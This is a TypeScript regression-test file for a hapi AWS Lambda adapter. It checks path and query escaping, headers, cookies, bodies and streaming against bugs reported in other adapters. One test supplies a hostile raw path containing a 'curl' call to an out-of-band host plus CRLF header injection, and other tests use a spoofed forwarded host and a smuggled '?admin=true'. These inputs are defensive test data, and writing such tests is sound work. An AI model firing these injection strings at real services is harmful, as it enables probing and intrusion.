import { Readable, Writable } from 'node:stream';
import { setTimeout as soon } from 'node:timers/promises';
import { brotliCompressSync, brotliDecompressSync, gunzipSync, gzipSync } from 'node:zlib';
import {
  server as createHapi,
  type Request,
  type ResponseToolkit,
  type RouteOptions,
  type Server,
} from '@hapi/hapi';
import {
  type AdapterOptions,
  createLambdaHandler,
  createStreamingHandler,
  type LambdaEvent,
} from '../../src/adapter/index.ts';
import { type Kind, receive, toEvent, type Wire } from '../support/front-doors.ts';

/** What users of other adapters have reported, each by its repository and number. */

type Handler = (request: Request, h: ResponseToolkit) => unknown;
type Fields = Record<string, unknown>;

function deepFreeze<T>(value: T): T {
  if (typeof value === 'object' && value !== null) {
    for (const one of Object.values(value)) deepFreeze(one);
    Object.freeze(value);
  }
  return value;
}

/** The event of a wire, with fields of its own; one that is undefined is not there. */
function eventOf(kind: Kind, wire: Wire = {}, fields: Fields = {}, context: Fields = {}) {
  const event: Fields = { ...toEvent(kind, wire), ...fields };
  if (Object.keys(context).length > 0) {
    event.requestContext = { ...(event.requestContext as Fields), ...context };
  }
  return frozen(event);
}

function edgeEvent(fields: Fields): LambdaEvent {
  const event = toEvent('edge') as unknown as { Records: [{ cf: { request: Fields } }] };
  Object.assign(event.Records[0].cf.request, fields);
  return frozen(event);
}

function frozen(event: object): LambdaEvent {
  return deepFreeze(JSON.parse(JSON.stringify(event)));
}

function serve(handler: Handler, options: AdapterOptions = {}, routeOptions: RouteOptions = {}) {
  const server = createHapi({ debug: false });
  server.route({
    method: '*',
    path: '/{path*}',
    handler: handler as never,
    options: routeOptions,
  });
  return createLambdaHandler(server, { log: () => {}, ...options });
}

interface Seen {
  target?: string;
  path?: string;
  params?: Record<string, string>;
  query?: Record<string, string | string[]>;
  /** Undefined for one that must not be there. */
  headers?: Record<string, string | undefined>;
  rawHeaders?: string[];
  body?: string;
  address?: string;
  host?: string;
  protocol?: string;
  prefix?: string;
  method?: string;
  source?: string;
}

function echo(request: Request): Required<Seen> {
  const { lambda, raw } = request;
  return {
    target: raw.req.url!,
    path: request.path,
    params: request.params as Record<string, string>,
    query: request.query as Record<string, string>,
    headers: request.headers as Record<string, string>,
    rawHeaders: raw.req.rawHeaders,
    body: Buffer.from((request.payload as Buffer | null) ?? '').toString('base64'),
    address: request.info.remoteAddress,
    host: request.info.host,
    protocol: request.url.protocol,
    prefix: lambda!.prefix,
    method: request.method,
    source: lambda!.source,
  };
}

let echoing: Server;
beforeAll(async () => {
  echoing = createHapi({
    debug: false,
    routes: { state: { parse: false, failAction: 'ignore' } },
  });
  const options: RouteOptions = {
    payload: { parse: false, output: 'data', override: 'application/octet-stream' },
  };
  for (const path of ['/{path*}', '/v0/{resourceUrl}']) {
    echoing.route({ method: '*', path, options, handler: echo });
  }
  await echoing.initialize();
});
afterAll(() => echoing.stop());

interface RequestRow {
  bug: string;
  kind: Kind;
  event: LambdaEvent;
  sees: Seen;
  options?: AdapterOptions;
}

function row(
  bug: string,
  kind: Kind,
  event: LambdaEvent | Fields,
  sees: Seen,
  options: AdapterOptions = {},
): RequestRow {
  const isWhole = Object.isFrozen(event);
  return {
    bug,
    kind,
    event: isWhole ? (event as LambdaEvent) : eventOf(kind, {}, event as Fields),
    sees,
    options,
  };
}

function testRows(rows: RequestRow[]): void {
  test.each(rows)('$bug', async ({ kind, event, sees, options }) => {
    const result = await createLambdaHandler(echoing, options)(event);
    const { status, body } = receive(kind, result);
    expect(status).toBe(200);
    const seen: Required<Seen> = JSON.parse(body.toString());
    const { headers = {}, ...rest } = sees;
    for (const [part, value] of Object.entries(rest)) {
      expect([part, seen[part as keyof Seen]]).toEqual([part, value]);
    }
    for (const [name, value] of Object.entries(headers)) {
      expect([name, seen.headers[name]]).toEqual([name, value]);
    }
  });
}

const single = 'alb, single values';
const multiple = 'alb, multiple values';
const lattice2 = 'vpc-lattice, version 2';
const base64 = (body: string | Buffer) => Buffer.from(body).toString('base64');
const repeatedQuery = {
  queryStringParameters: { foo: 'two' },
  multiValueQueryStringParameters: { foo: ['one', 'two'] },
};

describe('the path', () => {
  const staged = (rawPath: string, stage: string) =>
    eventOf('http-api', {}, { rawPath }, { stage });

  testRows([
    row(
      'fastify/aws-lambda-fastify#169: a path that was decoded is not decoded again',
      'http-api',
      { rawPath: '/a/b/%41%2520' },
      { target: '/a/b/%41%2520' },
    ),
    row(
      'honojs/hono#2156: a hash is escaped, slashes and @ are not',
      'http-api',
      { rawPath: '/RSC/@id/assets/rsf0.js#save.txt' },
      { target: '/RSC/@id/assets/rsf0.js%23save.txt', query: {} },
    ),
    row(
      'middleapi/standard-server#93: a decoded question mark makes no parameter',
      'http-api',
      { rawPath: '/users/me?admin=true' },
      { target: '/users/me%3Fadmin=true', query: {} },
    ),
    row(
      'middleapi/standard-server#93: a decoded hash leaves the query',
      'http-api',
      { rawPath: '/orders#', rawQueryString: 'page=2' },
      { target: '/orders%23?page=2', query: { page: '2' } },
    ),
    row(
      'aws/serverless-java-container#200: an escaped slash stays in its segment',
      'rest-api',
      { path: '/v0/http%3A%2F%2Fsome.resource.url' },
      { params: { resourceUrl: 'http://some.resource.url' } },
    ),
    row(
      'localstack/localstack#7728: the path stays, the decoded query is escaped',
      'rest-api',
      {
        path: '/user/test%2Balias@gmail.com/plus/test+alias@gmail.com',
        queryStringParameters: { email: 'test+alias@gmail.com' },
      },
      {
        target:
          '/user/test%2Balias@gmail.com/plus/test+alias@gmail.com?email=test%2Balias%40gmail.com',
        query: { email: 'test+alias@gmail.com' },
      },
    ),
    row(
      'CodeGenieApp/serverless-express#465: a named stage is taken off',
      'http-api',
      staged('/test/my-path', 'test'),
      { target: '/my-path', prefix: '/test' },
    ),
    row(
      'CodeGenieApp/serverless-express#465: a segment that begins like the stage stays',
      'http-api',
      staged('/testing/x', 'test'),
      { target: '/testing/x' },
    ),
    row(
      'fastify/aws-lambda-fastify#164: a resource that is called like its stage stays',
      'rest-api',
      eventOf(
        'rest-api',
        {},
        { resource: '/stage/my-resource', path: '/stage/my-resource' },
        {
          stage: 'stage',
          resourcePath: '/stage/my-resource',
          path: '/stage/stage/my-resource',
        },
      ),
      { target: '/stage/my-resource', prefix: '/stage' },
    ),
    row(
      'localstack/localstack#12296: the stage in the context is no part of the path',
      'rest-api',
      eventOf('rest-api', {}, { path: '/your-path' }, { stage: 'dev', path: '/dev/your-path' }),
      { target: '/your-path', prefix: '/dev' },
    ),
    row(
      'CodeGenieApp/serverless-express#555: the base path itself is the root',
      'rest-api',
      { path: '/users' },
      { target: '/' },
      { basePath: '/users' },
    ),
  ]);

  test('aws/aws-lambda-web-adapter#732: hostile input has an answer', async () => {
    const rawPath =
      '/%04%D7%7F%BF%18;%7Bcurl,http://othertest.oast.site+-H+%27User-Agent:%0d%0ax: y%27%7D\u0000\ud800';
    const handler = createLambdaHandler(echoing);
    const { status } = receive(
      'function-url',
      await handler(eventOf('function-url', {}, { rawPath })),
    );
    expect(status).toBe(400);
  });
});

describe('the query', () => {
  const encoded = { query: '%28countryCode%3DUS%29', foo: 'hello%20world' };
  testRows([
    row(
      'Kludex/mangum#178: a load balancer does not decode, so nothing is escaped',
      single,
      { queryStringParameters: encoded },
      { target: '/?query=%28countryCode%3DUS%29&foo=hello%20world' },
    ),
    row(
      'aws/aws-lambda-rust-runtime#543: nor in names',
      multiple,
      { multiValueQueryStringParameters: { 'foo%5Ba%5D': ['foo%5B'] } },
      { target: '/?foo%5Ba%5D=foo%5B', query: { 'foo[a]': 'foo[' } },
    ),
    row(
      'CodeGenieApp/serverless-express#660: a plus of a load balancer is a space',
      single,
      { queryStringParameters: { name: 'John+Smith' } },
      { target: '/?name=John+Smith', query: { name: 'John Smith' } },
    ),
    row(
      'dougmoscrop/serverless-http#204: what is no escape breaks nothing',
      single,
      { queryStringParameters: { utm_term: '%%URL%%' } },
      { query: { utm_term: '%%URL%%' } },
    ),
    row(
      'honojs/hono#4358: braces that were decoded are escaped',
      'rest-api',
      { queryStringParameters: { path: '/book/{bookId}/' } },
      { target: '/?path=%2Fbook%2F%7BbookId%7D%2F', query: { path: '/book/{bookId}/' } },
    ),
    row(
      'aws/serverless-java-container#146: a plus that was decoded is one',
      'rest-api',
      { queryStringParameters: { param: '+' } },
      { target: '/?param=%2B', query: { param: '+' } },
    ),
    row(
      'CodeGenieApp/serverless-express#214: all values, in order and each once',
      'rest-api',
      repeatedQuery,
      { target: '/?foo=one&foo=two' },
    ),
    row(
      'fastify/aws-lambda-fastify#202: an escaped comma does not split a value',
      'http-api',
      { rawQueryString: 'key=a%2Cb', queryStringParameters: { key: 'a,b' } },
      { target: '/?key=a%2Cb', query: { key: 'a,b' } },
    ),
    row(
      'h3js/srvx#300: a name alone is kept where its value is null',
      'rest-api',
      { queryStringParameters: { a: '1', foo: null } },
      { query: { a: '1', foo: '' } },
    ),
  ]);
});

describe('headers of a request', () => {
  testRows([
    row(
      "Kludex/mangum#69: the console's test has no headers",
      'rest-api',
      { headers: null, multiValueHeaders: null },
      { target: '/' },
    ),
    row(
      'jeremydaly/lambda-api#114: without lists the single values are read',
      'rest-api',
      { headers: { 'X-A': '1' }, multiValueHeaders: null },
      { headers: { 'x-a': '1' } },
    ),
    row(
      'honojs/hono#2493: the host of lists alone',
      multiple,
      { headers: undefined, multiValueHeaders: { host: ['x.example'], 'x-a': ['1'] } },
      { host: 'x.example', headers: { 'x-a': '1' } },
    ),
    row(
      'honojs/hono#2495: each value once',
      'rest-api',
      { headers: { 'x-a': '2' }, multiValueHeaders: { 'x-a': ['1', '2'] } },
      { headers: { 'x-a': '1, 2' } },
    ),
    row(
      'aws-powertools/powertools-lambda-typescript#5674: a value that is in another one stays',
      'rest-api',
      { headers: { 'x-a': '1', 'x-b': '3' }, multiValueHeaders: { 'x-a': ['11', '1'] } },
      { headers: { 'x-a': '11, 1', 'x-b': '3' } },
    ),
    row(
      'ttoss/ttoss#1089: the raw headers are filled too',
      'function-url',
      { headers: { host: 'x.example', accept: '*/*' } },
      { rawHeaders: ['host', 'x.example', 'accept', '*/*'] },
    ),
    row(
      'geostrategists/react-router-aws#11: no header of the caller makes the host',
      'function-url',
      { headers: { host: 'id.lambda-url.x.on.aws', 'x-forwarded-host': 'evil.example' } },
      { host: 'id.lambda-url.x.on.aws' },
    ),
  ]);

  test('CodeGenieApp/serverless-express#199: a large event is handed over by reference', async () => {
    const event = eventOf('rest-api', {}, { stageVariables: { large: 'x'.repeat(200_000) } });
    let lambda: Request['lambda'];
    const handle = serve((request) => {
      lambda = request.lambda;
      return { length: JSON.stringify(request.headers).length };
    });
    const { status, body } = receive('rest-api', await handle(event));
    expect(status).toBe(200);
    expect(lambda!.event).toBe(event);
    expect(JSON.parse(body.toString()).length).toBeLessThan(1_000);
  });
});

describe('cookies of a request', () => {
  testRows([
    row(
      'dougmoscrop/serverless-http#159: the list is the header',
      'function-url',
      { cookies: ['cookie1', 'cookie2'] },
      { headers: { cookie: 'cookie1; cookie2' } },
    ),
    row(
      'nuxt/framework#5947: no comma joins cookies',
      'http-api',
      { cookies: ['a=1', 'b=2'] },
      { headers: { cookie: 'a=1; b=2' } },
    ),
    row(
      'hattipjs/hattip#159: list and header are not doubled',
      'function-url',
      { headers: { cookie: 'a=1; b=2' }, cookies: ['a=1', 'b=2'] },
      { headers: { cookie: 'a=1; b=2' } },
    ),
  ]);
});

describe('the body of a request', () => {
  const jpeg = '/9j/4AAQ';
  const viaHttp = (fields: Fields) =>
    eventOf('http-api', { method: 'POST', headers: [] }, { ...fields });
  const viaEdge = (method: string, body: Fields) =>
    edgeEvent({ method, body: { inputTruncated: false, action: 'read-only', ...body } });

  testRows([
    row(
      'honojs/hono#1235: bytes stay bytes',
      'http-api',
      viaHttp({ body: jpeg, isBase64Encoded: true }),
      { body: jpeg, headers: { 'content-length': '6' } },
    ),
    row(
      'honojs/hono#1235: at the edge too',
      'edge',
      viaEdge('POST', { data: jpeg, encoding: 'base64' }),
      { body: jpeg, headers: { 'content-length': '6' } },
    ),
    row(
      'honojs/hono#2351: a GET of the edge may have an empty body',
      'edge',
      viaEdge('GET', { data: '', encoding: 'base64' }),
      { body: '', headers: { 'content-length': undefined } },
    ),
    row(
      'CodeGenieApp/serverless-express#175: a DELETE without a length keeps its body',
      'rest-api',
      { httpMethod: 'DELETE', body: '{"a":1}' },
      { method: 'delete', body: base64('{"a":1}'), headers: { 'content-length': '7' } },
    ),
    row(
      'dougmoscrop/serverless-http#192: the body of the edge is an object',
      'edge',
      viaEdge('POST', { data: 'text', encoding: 'text' }),
      { body: base64('text') },
    ),
  ]);

  test('trpc/trpc#3033: JSON in base64 is parsed', async () => {
    const handle = serve(({ payload }) => ({ parsed: payload }));
    const headers: Wire['headers'] = [['content-type', 'application/json']];
    const body = Buffer.from('{"test": "event"}');
    const result = await handle(eventOf('rest-api', { method: 'POST', headers, body }));
    expect(result).toMatchObject({ statusCode: 200, body: '{"parsed":{"test":"event"}}' });
  });

  test.each([
    [100, 200],
    [101, 413],
  ])('MionKit/mion#269: a limit of 100 is that of decoded bytes (%d)', async (length, status) => {
    const handle = serve(() => 'ok', {}, { payload: { maxBytes: 100, parse: false } });
    const wire: Wire = { method: 'POST', body: Buffer.alloc(length, 0xff) };
    expect(receive('http-api', await handle(eventOf('http-api', wire))).status).toBe(status);
  });

  test('jill64/sveltekit-adapter-aws#50: a body that the edge has cut is refused', async () => {
    const handler = jest.fn(() => 'ok');
    const event = viaEdge('POST', { data: jpeg, encoding: 'base64', inputTruncated: true });
    expect(receive('edge', await serve(handler)(event)).status).toBe(413);
    expect(handler).not.toHaveBeenCalled();
  });
});

describe('the address of the caller', () => {
  const forwarded = (value: string | undefined) => ({ headers: { 'x-forwarded-for': value } });
  testRows([
    row(
      'dougmoscrop/serverless-http#3: it is a text where there is none',
      'rest-api',
      { requestContext: undefined },
      { address: '' },
    ),
    row(
      'CodeGenieApp/serverless-express#331: of a load balancer, which has no identity',
      single,
      forwarded('198.51.100.9'),
      { address: '198.51.100.9' },
    ),
    row(
      'django/daphne#90: an IPv6 address is whole',
      single,
      forwarded('2001:db8:85a3:8d3:1319:8a2e:370:9c82'),
      { address: '2001:db8:85a3:8d3:1319:8a2e:370:9c82' },
    ),
    row(
      'snapframework/snap-core#272: a port after an IPv6 address is none of it',
      single,
      forwarded('10.0.0.1, [2001:db8::1]:8080'),
      { address: '2001:db8::1' },
    ),
  ]);
});

type Respond = (h: ResponseToolkit, request: Request) => unknown;
const plain: Respond = (h) => h.response('x').type('text/plain');
const withCookies: Respond = (h) =>
  h.response('x').header('set-cookie', ['a=1', 'b=2; Path=/'] as never);
const cookies = ['a=1', 'b=2; Path=/'];

interface AnswerRow {
  bug: string;
  kind: Kind;
  respond: Respond;
  gives: object;
  /** Paths of what must not be there. */
  lacks?: string[];
  wire?: Wire;
}

function testAnswers(rows: AnswerRow[]): void {
  test.each(rows)('$bug', async ({ kind, respond, gives, lacks = [], wire }) => {
    const handle = serve((request, h) => respond(h, request));
    const result = await handle(eventOf(kind, wire));
    expect(result).toMatchObject(gives);
    for (const path of lacks) expect(result).not.toHaveProperty(path);
  });
}

const past =
  (headers: Record<string, string | number | string[]>, body = 'x'): Respond =>
  (h, { raw: { res } }) => {
    res.writeHead(200, headers);
    res.end(body);
    return h.abandon;
  };

describe('status and headers of a result', () => {
  testAnswers([
    {
      bug: 'Kludex/mangum#187: all headers are lists for a load balancer that has them',
      kind: multiple,
      respond: withCookies,
      gives: {
        multiValueHeaders: {
          'content-type': ['text/html; charset=utf-8'],
          'set-cookie': cookies,
        },
      },
      lacks: ['headers', 'cookies'],
    },
    {
      bug: 'dougmoscrop/serverless-http#283: so are those of what the adapter refuses',
      kind: multiple,
      respond: plain,
      wire: { headers: [['bad name', '']] },
      gives: {
        statusCode: 400,
        multiValueHeaders: { 'content-type': ['application/problem+json'] },
      },
      lacks: ['headers'],
    },
    {
      bug: 'honojs/hono#2626: no lists for a load balancer that has none',
      kind: single,
      respond: withCookies,
      gives: { headers: { 'content-type': 'text/html; charset=utf-8' } },
      lacks: ['multiValueHeaders', 'cookies'],
    },
    {
      bug: 'Kludex/mangum#215: lists are joined in version 2.0',
      kind: 'http-api',
      respond: (h) => h.response('x').header('x-a', ['1', '2'] as never),
      gives: { headers: { 'x-a': '1, 2' } },
      lacks: ['multiValueHeaders'],
    },
    {
      bug: 'CodeGenieApp/serverless-express#563: a number is sent as text',
      kind: multiple,
      respond: past({ 'content-length': 3, 'x-n': 42 }, 'abc'),
      gives: { multiValueHeaders: { 'content-length': ['3'], 'x-n': ['42'] } },
    },
    {
      bug: 'adamchainz/apig-wsgi#52: a status is a number',
      kind: single,
      respond: (h) => h.response('x').code(201),
      gives: { statusCode: 201 },
    },
    {
      bug: 'logandk/serverless-wsgi#77: a load balancer has its description',
      kind: single,
      respond: plain,
      gives: { statusDescription: '200 OK', isBase64Encoded: false },
    },
    {
      bug: 'logandk/serverless-wsgi#77: a gateway has none',
      kind: 'rest-api',
      respond: plain,
      gives: { statusCode: 200, isBase64Encoded: false },
      lacks: ['statusDescription'],
    },
    {
      bug: 'fastify/aws-lambda-fastify#109: a REST API knows no cookies',
      kind: 'rest-api',
      respond: withCookies,
      gives: { multiValueHeaders: { 'set-cookie': cookies } },
      lacks: ['cookies', 'headers.set-cookie'],
    },
    {
      bug: 'dougmoscrop/serverless-http#142: chunks are sent as a whole',
      kind: 'rest-api',
      respond: (h, { raw: { res } }) => {
        res.writeHead(200, { 'content-type': 'text/plain', 'transfer-encoding': 'chunked' });
        res.write('one ');
        res.write('two');
        res.end();
        return h.abandon;
      },
      gives: { body: 'one two', headers: { 'content-length': '7' } },
      lacks: ['headers.transfer-encoding'],
    },
    {
      bug: 'Kludex/mangum#262: the edge gets no length',
      kind: 'edge',
      respond: plain,
      gives: { status: '200', body: 'x' },
      lacks: ['headers.content-length', 'headers.transfer-encoding', 'headers.via'],
    },
    {
      bug: 'opennextjs/opennextjs-aws#392: nor what CloudFront forbids',
      kind: 'edge',
      respond: past({
        connection: 'keep-alive',
        'keep-alive': 'timeout=5',
        'x-amz-cf-id': '1',
        'x-edge-location': 'FRA',
        via: '1.1 x',
      }),
      gives: { status: '200' },
      lacks: ['connection', 'keep-alive', 'x-amz-cf-id', 'x-edge-location', 'via'].map(
        (name) => `headers.${name}`,
      ),
    },
  ]);
});

describe('cookies of a result', () => {
  const dated = 'a=1; Expires=Wed, 21 Oct 2015 07:28:00 GMT; Path=/';
  const one: Respond = (h) => h.response('x').header('set-cookie', dated);
  testAnswers([
    {
      bug: 'dougmoscrop/serverless-http#185: two of version 2.0, in one place',
      kind: 'http-api',
      respond: withCookies,
      gives: { cookies },
      lacks: ['headers.set-cookie', 'multiValueHeaders'],
    },
    {
      bug: 'CodeGenieApp/serverless-express#388: one is a list, and whole',
      kind: 'http-api',
      respond: one,
      gives: { cookies: [dated] },
      lacks: ['headers.set-cookie'],
    },
    {
      bug: 'h3js/srvx#239: one of a REST API stands in one place',
      kind: 'rest-api',
      respond: one,
      gives: { multiValueHeaders: { 'set-cookie': [dated] } },
      lacks: ['headers.set-cookie'],
    },
    {
      bug: 'aws-powertools/powertools-lambda-typescript#5674: a comma splits no cookie',
      kind: 'rest-api',
      respond: (h) => h.response('x').header('set-cookie', [dated, 'b=2'] as never),
      gives: { multiValueHeaders: { 'set-cookie': [dated, 'b=2'] } },
    },
  ]);

  test('Kludex/mangum#185: two reach a client where each name has one value', async () => {
    const result = await serve((request, h) => withCookies(h, request))(eventOf(single));
    expect(receive(single, result).cookies).toEqual(cookies);
  });
});

describe('the body of a result', () => {
  const html = '<p>Grüße</p>'.repeat(200);
  const packed = (encoding: string, bytes: Buffer): Respond => {
    return (h) => h.response(bytes).type('text/html').header('content-encoding', encoding);
  };
  const png = Buffer.from(Array.from({ length: 1_024 }, (_, place) => place % 256));

  test.each<[Kind, string, Buffer, (bytes: Buffer) => Buffer]>([
    ['rest-api', 'gzip', gzipSync(html), gunzipSync],
    [multiple, 'br', brotliCompressSync(html), brotliDecompressSync],
  ])(
    'honojs/hono#1294: compressed text is bytes (%s, %s)',
    async (kind, encoding, bytes, decode) => {
      const handle = serve((request, h) => packed(encoding, bytes)(h, request));
      const result = await handle(eventOf(kind));
      expect(result).toMatchObject({ isBase64Encoded: true });
      expect(decode(receive(kind, result).body).toString()).toBe(html);
    },
  );

  testAnswers([
    {
      bug: 'honojs/hono#1949: so are those of an image',
      kind: 'edge',
      respond: (h) => h.response(png).type('image/png'),
      gives: { bodyEncoding: 'base64', body: base64(png) },
    },
    {
      bug: 'CodeGenieApp/serverless-express#645: bytes do not go out as text',
      kind: 'http-api',
      respond: (h) => h.response(png).type('application/octet-stream'),
      gives: {
        isBase64Encoded: true,
        body: base64(png),
        headers: { 'content-length': `${png.length}` },
      },
    },
    {
      bug: 'h3js/srvx#239: a 304 has no body',
      kind: 'http-api',
      respond: (h, { raw: { res } }) => {
        res.writeHead(304).end('x');
        return h.abandon;
      },
      gives: { statusCode: 304, body: '', isBase64Encoded: false },
    },
    {
      bug: 'h3js/srvx#239: a 204 of the edge does not even have the field',
      kind: 'edge',
      respond: (h) => h.response().code(204),
      gives: { status: '204' },
      lacks: ['body', 'bodyEncoding'],
    },
  ]);
});

describe('streaming', () => {
  type Streaming = (event: LambdaEvent, stream: Writable) => Promise<void>;
  const globals = globalThis as { awslambda?: unknown };

  /** As Lambda's runtime: no prelude goes out before the first write, and none without. */
  const runtime = {
    streamifyResponse: (handler: unknown) => handler,
    HttpResponseStream: {
      from(stream: Writable, prelude: object) {
        const write = stream.write.bind(stream) as (...given: unknown[]) => boolean;
        let isFirst = true;
        stream.write = (...given: unknown[]) => {
          if (isFirst) {
            write(JSON.stringify(prelude));
            write(new Uint8Array(8));
          }
          isFirst = false;
          return write(...given);
        };
        return stream;
      },
    },
  };
  beforeAll(() => {
    globals.awslambda = runtime;
  });
  afterAll(() => {
    delete globals.awslambda;
  });

  function stream(respond: Respond): Streaming {
    const server = createHapi({ debug: false });
    const handler = (request: Request, h: ResponseToolkit) => respond(h, request) as never;
    server.route({ method: '*', path: '/{path*}', handler });
    return createStreamingHandler(server, { log: () => {} }) as unknown as Streaming;
  }

  function collect(take: (done: () => void) => void = (done) => done(), highWaterMark = 16_384) {
    const chunks: Buffer[] = [];
    const out = new Writable({
      highWaterMark,
      emitClose: false,
      autoDestroy: false,
      write(chunk, _encoding, done) {
        chunks.push(Buffer.from(chunk));
        take(done);
      },
    });
    const read = () => {
      const all = Buffer.concat(chunks);
      const end = all.indexOf(Buffer.alloc(8));
      return { ...JSON.parse(all.subarray(0, end).toString()), body: all.subarray(end + 8) };
    };
    return { out, read };
  }

  const event = eventOf('function-url');
  const nothing = Buffer.alloc(0);

  test.each<[string, Respond, object, Wire?]>([
    [
      'honojs/hono#2401: a redirection has its location',
      (h) => h.redirect('/elsewhere'),
      { statusCode: 302, headers: { location: '/elsewhere' }, body: nothing },
    ],
    [
      'geostrategists/react-router-aws#4: what is ended without a write has its status',
      (h, { raw: { res } }) => {
        res.writeHead(302, { location: '/x' });
        res.end();
        return h.abandon;
      },
      { statusCode: 302, headers: { location: '/x' }, body: nothing },
    ],
    [
      'aws/aws-lambda-nodejs-runtime-interface-client#95: an empty stream ends',
      (h) => h.response(Readable.from([nothing], { objectMode: false })).code(403),
      { statusCode: 403, body: nothing },
    ],
    [
      'aws/aws-lambda-nodejs-runtime-interface-client#95: HEAD ends',
      plain,
      { statusCode: 200, body: nothing },
      { method: 'HEAD' },
    ],
    [
      'H4ad/serverless-adapter#393: a late 500 without a body ends',
      async (h) => {
        await soon(5);
        return h.response('').code(500);
      },
      { statusCode: 500, body: nothing },
    ],
    [
      'honojs/hono#2921: two cookies',
      withCookies,
      { cookies, headers: expect.not.objectContaining({ 'set-cookie': expect.anything() }) },
    ],
  ])('%s', async (_bug, respond, gives, wire = {}) => {
    const { out, read } = collect();
    await stream(respond)(eventOf('function-url', wire), out);
    expect(out.writableFinished).toBe(true);
    expect(read()).toMatchObject(gives);
  });

  test('cargo-lambda/cargo-lambda#862: no length and nothing of a connection goes ahead', async () => {
    const { out, read } = collect();
    const headers = { 'content-length': 1, connection: 'close', 'transfer-encoding': 'chunked' };
    await stream(past({ ...headers, 'x-mine': 'stays' }))(event, out);
    expect(read()).toEqual({
      statusCode: 200,
      headers: { 'x-mine': 'stays' },
      body: Buffer.from('x'),
    });
  });

  test('fastify/aws-lambda-fastify#287: a REST API gets bytes, and no flag', async () => {
    const bytes = Buffer.from([0x89, 0x50, 0x00, 0xff]);
    const { out, read } = collect();
    await stream((h) => h.response(bytes).type('image/png'))(eventOf('rest-api'), out);
    expect(read().body).toEqual(bytes);
    expect(read()).not.toHaveProperty('isBase64Encoded');
  });

  const pieces = Array.from({ length: 128 }, (_, place) => Buffer.alloc(16_384, place));
  const large: Respond = (h) =>
    h.response(Readable.from(pieces, { objectMode: false })).type('image/png');

  test('honojs/hono#5333: no more is written than is taken', async () => {
    const { out } = collect((done) => setImmediate(done));
    let most = 0;
    const write = out.write.bind(out) as (...given: unknown[]) => boolean;
    out.write = (...given: unknown[]) => {
      const isMore = write(...given);
      most = Math.max(most, out.writableLength);
      return isMore;
    };
    await stream(large)(event, out);
    expect(most).toBeLessThanOrEqual(3 * 16_384);
  });

  test('honojs/hono#5333: it is over when all has been taken', async () => {
    const { out } = collect((done) => setTimeout(done, 20));
    await stream(plain)(event, out);
    expect(out.writableFinished).toBe(true);
  });

  test('opennextjs/opennextjs-aws#395: all follows once there is room again', async () => {
    const { out, read } = collect((done) => setImmediate(done), 1);
    await stream(large)(event, out);
    expect(Buffer.concat(pieces).equals(read().body)).toBe(true);
  });

  test.each([
    ['h3js/srvx#299: a stream that closes', undefined],
    ['h3js/srvx#301: a stream that fails', new Error('gone')],
  ])('%s while it is full ends the wait and the source', async (_bug, error) => {
    const out = new Writable({ highWaterMark: 1, write() {} });
    const source = new Readable({
      read() {
        setImmediate(() => this.push(Buffer.alloc(16_384)));
      },
    });
    const handled = stream((h) => h.response(source).type('image/png'))(event, out);
    await soon(20);
    expect(out.writableNeedDrain).toBe(true);
    out.destroy(error);
    await handled;
    await soon(5);
    expect(source.destroyed).toBe(true);
  });

  test('aws/aws-lambda-nodejs-runtime-interface-client#145: no close of the stream is needed', async () => {
    const { out, read } = collect();
    const closed = jest.fn();
    out.on('close', closed);
    await stream(plain)(event, out);
    expect(read().body.toString()).toBe('x');
    expect(closed).not.toHaveBeenCalled();
  });
});

describe('lifecycle', () => {
  test('fastify/aws-lambda-fastify#215: an event is handed over as it came', async () => {
    const event = eventOf(
      'http-api',
      { target: '/?key=a%2Cb' },
      { queryStringParameters: { key: 'a,b' } },
    );
    const before = structuredClone(event);
    const handle = serve((request) => {
      request.headers['x-mine'] = '1';
      request.query.key = ['a', 'b'];
      return 'ok';
    });
    expect(await handle(event)).toMatchObject({ statusCode: 200 });
    expect(event).toEqual(before);
  });

  test('dougmoscrop/serverless-http#60: a callback is not called, and the result is returned', async () => {
    const callback = jest.fn();
    const handle = serve(() => 'ok') as (...given: unknown[]) => Promise<unknown>;
    const result = await handle(eventOf('http-api'), {}, callback);
    expect(result).toMatchObject({ statusCode: 200, body: 'ok' });
    expect(callback).not.toHaveBeenCalled();
  });

  test('CodeGenieApp/serverless-express#276: a handler that breaks off has a result', async () => {
    const handle = serve(({ raw: { res } }, h) => {
      res.destroy();
      return h.abandon;
    });
    expect(await handle(eventOf('http-api'))).toMatchObject({ statusCode: 500 });
  });

  test.each<[string, unknown]>([
    [
      'CodeGenieApp/serverless-express#451: an event of EventBridge',
      {
        version: '0',
        source: 'aws.events',
        'detail-type': 'Scheduled Event',
        detail: {},
        resources: [],
      },
    ],
    ['honojs/hono#4696: a record without an edge', { Records: [{}] }],
  ])('%s is refused by name', async (_bug, given) => {
    const refused = serve(() => 'ok')(deepFreeze(given) as never);
    await expect(refused).rejects.toThrow(/^This is not an HTTP event/);
  });

  const small = {
    httpMethod: 'GET',
    path: '/hello',
    headers: {},
    queryStringParameters: null,
    body: null,
    isBase64Encoded: false,
  };
  testRows([
    row('dougmoscrop/serverless-http#4: a small event is enough', 'rest-api', frozen(small), {
      target: '/hello',
      method: 'get',
      address: '',
    }),
    row(
      'AWS: version 2.0 of Lattice is not taken for an HTTP API',
      lattice2,
      { version: '2.0', path: '/x', method: 'PUT' },
      { source: 'vpc-lattice', target: '/x', method: 'put' },
    ),
  ]);

  test.each<[string, Kind, Fields, number]>([
    [
      'a context without anything',
      single,
      { requestContext: { elb: {} }, headers: null, queryStringParameters: null },
      200,
    ],
  ])('honojs/hono#2493: %s has an answer', async (_name, kind, fields, status) => {
    const unhandled = jest.fn();
    process.once('unhandledRejection', unhandled);
    const result = await serve(() => 'ok')(eventOf(kind, {}, fields));
    await soon(0);
    process.off('unhandledRejection', unhandled);
    expect(receive(kind, result).status).toBe(status);
    expect(unhandled).not.toHaveBeenCalled();
  });
});
